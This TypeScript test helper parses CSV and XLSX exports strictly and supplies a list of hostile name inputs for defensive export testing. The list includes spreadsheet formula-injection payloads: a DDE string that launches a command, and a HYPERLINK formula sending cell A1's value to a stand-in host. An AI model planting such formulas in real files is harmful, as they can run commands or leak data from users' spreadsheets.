import { readFileSync } from 'node:fs'
import type { Readable } from 'node:stream'
import { buffer } from 'node:stream/consumers'
import { crc32, inflateRawSync } from 'node:zlib'
import ExcelJS from 'exceljs'

/** Readers that share nothing with what writes the files. */

/** Fields of a CSV file by the letter of RFC 4180; throws at the first character that breaks it. */
export function parseCsv(text: string): string[][] {
  const field = /"((?:[^"]|"")*)"(?=,|\r\n|$)|([^",\r\n]*)(?=,|\r\n|$)/y
  const rows: string[][] = []
  let row: string[] = []
  let position = 0
  while (position < text.length) {
    field.lastIndex = position
    const found = field.exec(text)
    if (!found) throw new Error(`not RFC 4180 at ${position}: ${JSON.stringify(text.slice(position, position + 40))}`)
    row.push(found[1]?.replaceAll('""', '"') ?? found[2] ?? '')
    position = field.lastIndex
    if (text[position] === ',') {
      position += 1
      continue
    }
    if (!text.startsWith('\r\n', position)) throw new Error('the last record has no line end')
    position += 2
    rows.push(row)
    row = []
  }
  if (row.length > 0) throw new Error('the file ends inside a record')
  return rows
}

/** Fields of a CSV stream, without the byte order mark that must begin it. */
export async function readCsv(stream: Readable): Promise<string[][]> {
  const bytes = await buffer(stream)
  if (bytes.subarray(0, 3).toString('hex') !== 'efbbbf') throw new Error('no byte order mark')
  return parseCsv(new TextDecoder('utf-8', { fatal: true }).decode(bytes))
}

/** Parts of a zip by name, by its central directory, with the checksum of each. */
export function unzip(file: Buffer): Map<string, string> {
  const end = file.lastIndexOf(Buffer.from('504b0506', 'hex'))
  const parts = new Map<string, string>()
  let at = file.readUInt32LE(end + 16)
  for (let left = file.readUInt16LE(end + 10); left > 0; left--) {
    const [nameLength, extraLength, commentLength] = [28, 30, 32].map((offset) => file.readUInt16LE(at + offset))
    const name = file.toString('utf8', at + 46, at + 46 + (nameLength as number))
    const local = file.readUInt32LE(at + 42)
    const start = local + 30 + file.readUInt16LE(local + 26) + file.readUInt16LE(local + 28)
    const content = inflateRawSync(file.subarray(start, start + file.readUInt32LE(at + 20)))
    if (crc32(content) !== file.readUInt32LE(at + 16)) throw new Error(`checksum of ${name}`)
    parts.set(name, new TextDecoder('utf-8', { fatal: true }).decode(content))
    at += 46 + (nameLength as number) + (extraLength as number) + (commentLength as number)
  }
  return parts
}

export async function readXlsx(stream: Readable): Promise<{ workbook: ExcelJS.Workbook; parts: Map<string, string> }> {
  const file = await buffer(stream)
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(file as unknown as ExcelJS.Buffer)
  return { workbook, parts: unzip(file) }
}

/** Values of a sheet, row by row, with null for an empty cell. */
export function valuesOf(worksheet: ExcelJS.Worksheet | undefined): ExcelJS.CellValue[][] {
  if (!worksheet) throw new Error('no such sheet')
  const rows: ExcelJS.CellValue[][] = []
  worksheet.eachRow((row) => {
    const cells = Array.from({ length: worksheet.columnCount }, (_, index) => row.getCell(index + 1).value)
    rows.push(cells)
  })
  return rows
}

/** Texts that somebody may type as a name; HOSTILE_TEXT may name a JSON file with more. */
export const hostileTexts: string[] = [
  '=1+1',
  '+84901234567',
  '-2+3',
  '@SUM(A1:A9)',
  '=HYPERLINK("http://example.test?x="&A1,"xem")',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\r\n=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  'a\u0001b\u0008c\u000Bd\u001Fe\u007Ff\u0085g',
  'lone \uD800 and \uDC00',
  '\uFFFE\uFFFF',
  '_x0041_ and _x000D_',
  '<script>alert(1)</script>&amp;]]>',
  'two\nlines\r\nand three\rlines',
  'a,b;c\td"e"\'f\'',
  '""',
  '"',
  'Nguyễn Thị Ánh Đào',
  '田中さん 😀 👩‍👩‍👧‍👦 ﷽',
  '0012',
  '1E5',
  '05/03/2026',
  'TRUE',
  "'quoted'",
  ...(process.env.HOSTILE_TEXT ? JSON.parse(readFileSync(process.env.HOSTILE_TEXT, 'utf8')) : []),
  'x'.repeat(40_000),
]
